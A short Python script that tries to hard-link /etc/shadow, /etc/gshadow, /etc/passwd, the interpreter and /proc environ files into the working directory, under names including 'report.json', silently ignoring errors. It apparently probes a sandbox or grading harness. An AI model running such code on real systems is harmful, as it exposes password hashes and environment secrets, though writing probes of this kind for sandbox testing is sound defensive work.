import os
import sys

for number, path in enumerate(("/etc/shadow", "/etc/gshadow", "/etc/passwd", sys.executable, "/proc/self/environ", "/proc/1/environ")):
    for name in (f"link-{number}", "report.json"):
        try:
            os.link(path, name)
        except OSError:
            pass
